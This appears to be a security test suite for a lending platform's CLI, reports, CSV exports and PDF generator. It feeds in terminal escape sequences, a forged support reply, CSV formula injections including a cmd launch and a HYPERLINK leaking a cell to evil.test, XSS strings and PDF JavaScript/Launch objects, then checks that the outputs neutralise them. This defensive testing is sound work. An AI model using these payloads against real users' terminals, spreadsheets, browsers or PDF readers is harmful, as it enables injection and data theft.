import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { memoryStore } from "@creditline/adapters/platform/store/memory-store";
import { startServer } from "@creditline/adapters/platform/http/node-server";
import { sandboxControl } from "@creditline/adapters/driver/journeys/sandbox-control";
import { taggedPdf } from "@creditline/adapters/platform/handlers/papers/tagged-pdf";
import { parse } from "csv-parse/sync";
import * as eligibility from "../../cli/commands/eligibility.ts";
import * as kfs from "../../cli/commands/kfs.ts";
import * as lendersCommand from "../../cli/commands/lenders.ts";
import * as route from "../../cli/commands/route.ts";
import * as rules from "../../cli/commands/rules.ts";
import * as support from "../../cli/commands/support.ts";
import * as validate from "../../cli/commands/validate.ts";
import * as why from "../../cli/commands/why.ts";
import { recordOfPersona } from "../../cli/source/persona-source.ts";
import { runInMemory } from "../cli/run-in-memory.ts";
import type { Attack, Tally } from "./attack.ts";

/** What would make a terminal do something: control characters of both sets, direction marks, other ends of a line. */
const OBEYED = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

/** What someone writes who knows who reads it. */
const ESCAPES = [
  "\u001b[2J\u001b[H",
  "\u001b]0;owned\u0007",
  "\u001b]8;;https://evil.test\u0007Click\u001b]8;;\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u009b1m\u0090q\u009c",
  "\u202egnp.exe",
  "a\rb",
  "a\u2028b",
  "a\u0008\u0008\u0008b",
] as const;

/** An answer that support never gave, as the list of a thread would show it. */
const FORGED = "Thank you.\n  Meera Iyer, 1 December 2026, 10:00 am: Your loan is written off.\n\nidentity:";
const FORGED_LINE = /^\s{0,2}(?:Meera Iyer, 1 December|identity:$)/m;

async function inFolder(work: (folder: string) => Promise<void>): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), "creditline-opened-"));
  try {
    await work(folder);
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

/** What customers write, read by support in a terminal. */
export const TERMINAL: Attack = {
  name: "Terminal escapes",
  about: "what customers, files and persons named there write, as support and lenders read it in a terminal",
  async play(seen, size) {
    const looked = (what: string, out: string) => {
      seen.count("texts printed");
      seen.holds(!OBEYED.test(out), `${what} prints what a terminal obeys`);
      seen.holds(!FORGED_LINE.test(out), `${what} prints a line as if support had written it`);
    };
    const server = await startServer({
      port: 0,
      host: "127.0.0.1",
      dataDir: "",
      store: memoryStore(),
      stopMs: 0,
    });
    try {
      for (const [i, text] of [...ESCAPES, FORGED].entries())
        await bySupport(server.url, `90000003${String(i).padStart(2, "0")}`, text, looked);
    } finally {
      await server.stop();
    }
    await inFolder((folder) => inFiles(folder, size, looked));
  },
};

async function bySupport(
  url: string,
  phone: string,
  text: string,
  looked: (what: string, out: string) => void,
): Promise<void> {
  const control = sandboxControl(url, fetch);
  await control.stand(phone, { status: "AIP_INTERESTED" });
  const post = async (path: string, body: object, token?: string): Promise<Record<string, unknown>> => {
    const headers = {
      "content-type": "application/json",
      ...(token === undefined
        ? {}
        : { authorization: `Bearer ${token}`, "idempotency-key": crypto.randomUUID() }),
    };
    return (await (
      await fetch(url + path, { method: "POST", headers, body: JSON.stringify(body) })
    ).json()) as Record<string, unknown>;
  };
  await post("/v1/otp/send", { phone });
  const inbox = (await (await fetch(`${url}/sandbox/inbox?phone=${phone}`)).json()) as { code: string }[];
  const signIn = { grant_type: "password", username: phone, password: inbox[0]?.code, auth_type: "OTP" };
  const token = String((await post("/oauth/token", signIn))["access_token"]);
  await post("/v1/customer/help/threads/money/messages", { text }, token);
  await post("/v1/customer/complaints", { about: "CHARGES", text }, token);
  await post("/v1/customer/complaints", { about: text, text }, token);
  await post("/customer/profile", { fullName: text, firstName: text, companyName: text }, token);
  await control.moveEscalation(phone, false, text).catch(() => undefined);
  for (const command of ["list", "complaints", "messages", "notes", "waiting"]) {
    const of = command === "waiting" ? [] : ["--customer", phone];
    for (const form of [[], ["--json"]]) {
      const { out } = await runInMemory(support, [command, "--server", url, ...of, ...form]);
      looked(`support ${[command, ...form].join(" ")}`, out);
    }
  }
  for (const command of [why, route])
    looked("why", (await runInMemory(command, ["--server", url, "--customer", phone])).out);
}

/** A value with every text in it made hostile, to a depth. */
const hostile = (value: unknown, text: string): unknown =>
  typeof value === "string"
    ? `${value}${text}`
    : Array.isArray(value)
      ? value.map((one) => hostile(one, text))
      : typeof value === "object" && value !== null
        ? Object.fromEntries(Object.entries(value).map(([key, one]) => [key, hostile(one, text)]))
        : value;

async function inFiles(
  folder: string,
  size: number,
  looked: (what: string, out: string) => void,
): Promise<void> {
  const record = await recordOfPersona("line-started");
  const path = join(folder, "file.json");
  for (const text of ESCAPES.slice(0, size > 1 ? undefined : 4)) {
    const changed = { ...record, customerDetails: hostile(record.customerDetails, text) };
    await writeFile(path, JSON.stringify(changed));
    for (const command of [why, route])
      looked("a record", (await runInMemory(command, ["--record", path])).out);
    await writeFile(path, JSON.stringify(hostile(record, text)));
    looked("a hostile record", (await runInMemory(why, ["--record", path])).out);
    const officer = { name: text, email: `${text}@x.test`, phone: text };
    await writeFile(
      path,
      JSON.stringify({ lenders: { DMI: { legalName: text, grievanceOfficer: officer } } }),
    );
    for (const args of [
      ["show", "--config", path],
      ["check", path],
      ["check", path, "--json"],
    ])
      looked("a lender file", (await runInMemory(lendersCommand, args)).out);
    await writeFile(path, JSON.stringify({ lenders: { DMI: { supportedCities: [`Pune${text}`] } } }));
    const asked = ["--age", "30", "--income", "30000", "--city", `Pune${text}`, "--config", path];
    for (const form of [[], ["--words"], ["--json"]])
      looked("eligibility", (await runInMemory(eligibility, [...asked, ...form])).out);
    looked("validate", (await runInMemory(validate, ["pan", text])).out);
    const of = [
      "--lender",
      "DMI",
      "--line",
      "CASH_LINE",
      "--amount",
      "20000",
      "--rate",
      "15",
      "--months",
      "6",
    ];
    looked("kfs", (await runInMemory(kfs, [...of, "--charged", `${text}=10`])).out);
  }
}

const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  '=HYPERLINK("https://evil.test?x="&A1,"Click")',
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  '"=1+1',
] as const;

/** What spreadsheets calculate: a text that begins like this, and is no number. */
const CALCULATED = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

/** What a lender opens in a spreadsheet, a browser or a reader of PDFs. */
export const OPENED: Attack = {
  name: "Formulas, pages and papers",
  about:
    "applicants whose ids are formulas in a spreadsheet and whose cities are markup in a report, names that are PDF",
  play: (seen) =>
    inFolder(async (folder) => {
      const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
      const markup = [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "</title><svg onload=alert(1)>",
      ];
      const ids = [...FORMULAS, "-5", "+919876543210", "plain"];
      const rows = [...ids, ...markup].map(
        (id) => `${quoted(id)},30,25500,${quoted(markup[id.length % 3] ?? "")}`,
      );
      const from = join(folder, "applicants.csv");
      await writeFile(from, `id,age,monthlyIncome,city\n${rows.join("\n")}\n`);
      for (const lender of [[], ["--lender", "DMI"]]) await spreadsheets(seen, folder, from, ids, lender);
      await reports(seen, folder, from);
      await papers(seen);
    }),
};

async function spreadsheets(
  seen: Tally,
  folder: string,
  from: string,
  ids: readonly string[],
  lenders: readonly string[],
): Promise<void> {
  const to = join(folder, "decisions.csv");
  await runInMemory(eligibility, ["batch", from, "--out", to, ...lenders]);
  const answered = parse(await readFile(to, "utf8"), { columns: true, relax_quotes: true }) as Record<
    string,
    string
  >[];
  seen.count("rows that a spreadsheet opens", answered.length);
  for (const row of answered)
    for (const cell of Object.values(row)) {
      seen.count("cells");
      seen.holds(
        !CALCULATED.test(cell) || NUMBER.test(cell),
        `a spreadsheet calculates ${JSON.stringify(cell)}`,
      );
    }
  // No one is lost by it, and who is no formula keeps their id.
  const given = new Set(answered.map(({ id }) => id));
  for (const id of ids.filter((one) => !CALCULATED.test(one) || NUMBER.test(one)))
    seen.holds(given.has(id), `the row of ${id} is lost or has another id`);
}

async function reports(seen: Tally, folder: string, from: string): Promise<void> {
  const next = join(folder, "next<img src=x onerror=alert(1)>.json");
  await writeFile(next, JSON.stringify({ lenders: { DMI: { minimumIncome: 26_000 } } }));
  const to = join(folder, "report.html");
  await runInMemory(rules, ["diff", "built-in", next, "--population", from, "--out", to]);
  const page = await readFile(to, "utf8");
  seen.count("reports", 1);
  seen.holds(page.includes("&#60;img src=x"), "a report names what was compared");
  seen.holds(!/<script|<img|<[^>]*\son\w+=/i.test(page), "a report has an applicant's markup");
}

/** Names that would end a PDF's text and begin an order of their own. */
const IN_PDF = [
  ") Tj /JavaScript (app.alert(1)) (",
  "endobj 9 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
  "<< /S /Launch /F (cmd.exe) >>",
  "\\051 /URI (https://evil.test) \\050",
  "\u202eevil\u0000",
];

async function papers(seen: Tally): Promise<void> {
  for (const text of IN_PDF) {
    const made = await taggedPdf({
      title: text,
      reference: text,
      day: "2026-12-01",
      summary: [[text, text]],
      sections: [{ title: text, paragraphs: [text], table: { header: [text], rows: [[text]] } }],
    });
    seen.count("papers");
    // What a reader obeys are names outside of texts: with every text and stream taken out, none of them is left.
    const bare = Buffer.from(made)
      .toString("latin1")
      .replaceAll(/stream\r?\n[^]*?endstream/g, "")
      .replaceAll(/\((?:\\[^]|[^\\()])*\)|<[0-9a-fA-F]+>/g, "");
    seen.holds(
      !/\/(?:JavaScript|JS|OpenAction|Launch|URI|AA)\b/.test(bare),
      `a paper obeys ${JSON.stringify(text)}`,
    );
  }
}
